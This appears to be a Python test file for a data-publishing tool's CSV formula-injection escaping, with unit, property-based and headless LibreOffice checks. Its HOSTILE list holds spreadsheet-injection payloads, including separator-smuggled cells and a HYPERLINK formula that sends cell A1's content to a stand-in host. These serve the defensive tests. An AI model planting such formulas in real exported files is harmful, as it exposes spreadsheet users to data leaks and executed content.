"""Texts that a spreadsheet program would run, and what it makes of the files that Habitus publishes."""

import re
import shutil
import subprocess
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import ibis
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from ibis.backends.duckdb import Backend as DuckDB
from laws import law

from features.table import Table
from publish.destinations.files import write
from publish.formulas import Formulas, escape, escape_array, escape_column, unescape, unescape_columns

HOSTILE = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠a"),
    *("a;=1+1", "a;-1+1;b", 'a";=1+1', "a,=1+1", "a|=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "'=1+1", "''=1+1;'=2"),
    *("\x00=1+1", "\x00\x00-1", "a;\x00=1+1"),  # NUL is read over by LibreOffice
    '=HYPERLINK("https://example.org/?"&A1,"click")',
]
HARMLESS = ["ada", "1-1", "a=b", "o'neil", "'", "", " =1+1", "a@example.org", "2024-01-01", "é"]
TEXTS = st.text(st.sampled_from("=+-@＝'\x00\t\r\n;,|\"a1 "), max_size=8)


def opened(text: str) -> list[str]:
    """Return the cells that programs with any separator would make of a text."""
    return re.split(r'[,;|"\t\r\n]', text)


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_no_cell_begins_with_what_is_run(text: str) -> None:
    assert not [cell for cell in opened(escape(text)) if cell.lstrip("\x00")[:1] in tuple("=+-@＝＋－＠")]
    assert escape(text)[0] not in "\t\r\n"


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert escape(text) == text


@given(texts=st.lists(TEXTS, min_size=1, max_size=5))
@law(20)
def test_what_was_escaped_comes_back_and_every_engine_escapes_alike(texts: list[str]) -> None:
    escaped = [escape(text) for text in texts]
    assert [unescape(text) for text in escaped] == texts
    assert escape_array(pa.chunked_array([texts])).to_pylist() == escaped


def test_the_documentation_says_how_to_undo_it() -> None:
    page = (Path(__file__).parents[1] / "docs" / "destinations" / "files.md").read_text()
    documented: dict[str, Any] = {}
    exec(page.partition("```python\n")[2].partition("```")[0], documented)
    texts = [*HOSTILE, *HARMLESS]
    assert [documented["unescape"](escape(text)) for text in texts] == texts


def test_a_query_escapes_and_unescapes_alike() -> None:
    texts = [*HOSTILE, *HARMLESS]
    rows = ibis.memtable({"number": range(len(texts)), "text": texts})
    escaped = rows.mutate(text=escape_column(rows.text))
    assert escaped.order_by("number").text.to_pyarrow().to_pylist() == [escape(text) for text in texts]
    assert unescape_columns(escaped, ["text"]).order_by("number").text.to_pyarrow().to_pylist() == texts


# --- a real spreadsheet program ---


@pytest.mark.slow
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
@pytest.mark.parametrize("formulas", ["escape", "keep"])
def test_libreoffice_runs_nothing_in_a_published_file(
    engine: DuckDB, tmp_path: Path, formulas: Formulas, separator: str
) -> None:
    contract = Table("users", ibis.schema({"user_id": "!string", "name": "string", "value": "float64"}), ("user_id",))
    texts = [*HOSTILE, *HARMLESS]
    users = [{"user_id": f"u{number:02}", "name": text, "value": -1.5} for number, text in enumerate(texts)]
    rows = engine.create_table("users", pa.Table.from_pylist(users, contract.schema.to_pyarrow()), temp=True)
    write(rows, contract, "csv", tmp_path / "users.csv", formulas)
    cells, found = open_in_libreoffice(tmp_path / "users.csv", separator)
    assert bool(found) == (formulas == "keep"), found
    if separator == "," and formulas == "escape":
        plain = [text.isprintable() and text == text.strip() for text in texts]  # which XML has as they are
        written = {f"u{number:02}": escape(text) for number, text in enumerate(texts) if plain[number]}
        assert {row[0]: row[1:] for row in cells if row[0] in written} == {
            user: [text, "-1.5"] for user, text in written.items()
        }


def open_in_libreoffice(file: Path, separator: str) -> tuple[list[list[str]], list[str]]:
    """Open a CSV file as a person does; return the texts of its cells by row, and the formulas it found."""
    office = shutil.which("soffice")
    if office is None:
        pytest.fail("LibreOffice is missing, which this test runs: apt-get install libreoffice-calc-nogui")
    profile = f"-env:UserInstallation={(file.parent / 'profile').as_uri()}"
    how = f"CSV:{ord(separator)},34,76,1"
    command = [office, profile, "--headless", f"--infilter={how}", "--convert-to", "fods", file.name]
    subprocess.run(command, cwd=file.parent, check=True, capture_output=True, timeout=120)
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    root = ElementTree.parse(file.with_suffix(".fods")).getroot()
    rows = [
        ["\n".join("".join(line.itertext()) for line in cell) for cell in row.iter(f"{table}table-cell")]
        for row in root.iter(f"{table}table-row")
    ]
    found = [cell.get(f"{table}formula", "") for cell in root.iter(f"{table}table-cell")]
    return [row for row in rows if any(row)], [one for one in found if one]
